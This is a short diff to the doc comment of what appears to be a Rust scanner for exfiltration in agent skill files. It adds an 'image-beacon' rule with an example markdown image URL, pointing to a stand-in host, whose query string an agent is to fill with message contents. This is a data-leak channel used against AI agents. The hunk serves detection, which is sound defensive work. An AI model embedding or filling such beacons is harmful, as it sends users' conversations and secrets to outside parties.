@@ -9,6 +9,11 @@
 //! a variable or temp file filled from a secret earlier in the skill.
 //! A token in an `Authorization` header sent to the project's own API is
 //! how APIs work and is not reported.
+//!
+//! `exfil.image-beacon` is the channel that needs no code: a markdown
+//! image whose query string the agent is to fill in (`![](https://x/p.gif?u={message})`),
+//! which the reader's client fetches by itself. `High`; `Low` when the
+//! line talks about it as an attack.
 
 use std::sync::LazyLock;
 
